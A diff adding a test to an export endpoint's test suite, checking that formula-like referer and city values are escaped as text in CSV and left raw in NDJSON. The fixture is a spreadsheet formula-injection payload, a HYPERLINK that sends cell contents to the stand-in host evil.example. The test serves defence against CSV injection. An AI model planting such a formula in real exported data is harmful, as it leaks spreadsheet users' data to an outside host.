@@ -51,6 +51,17 @@ describeAtClocks("GET /v1/codes/:id/scans/export", ({ now }) => {
     expect(countries).toEqual(["AT", "DE", "CH"]);
   });
 
+  it("writes a formula-like referer as text in CSV, and raw in NDJSON", async () => {
+    const formula = '=HYPERLINK("https://evil.example/?x="&A1,"click")';
+    await storeScans([scanRow(code, at(1), { referer: formula, city: "@SUM(1)" })]);
+    const csv = (await download("?format=csv")).text;
+    expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?x=""&A1,""click"")",`);
+    expect(csv).toContain(`,"'@SUM(1)",`);
+    expect(csv).not.toMatch(/,=HYPERLINK/);
+    const line = JSON.parse((await download("?format=ndjson")).text.trimEnd());
+    expect(line).toMatchObject({ referer: formula, city: "@SUM(1)" });
+  });
+
   it("streams NDJSON, one scan per line, across many pages", async () => {
     const rows = Array.from({ length: 2500 }, (_, i) => scanRow(code, at(1 + (i % 5), i % 600)));
     await storeScans(rows);
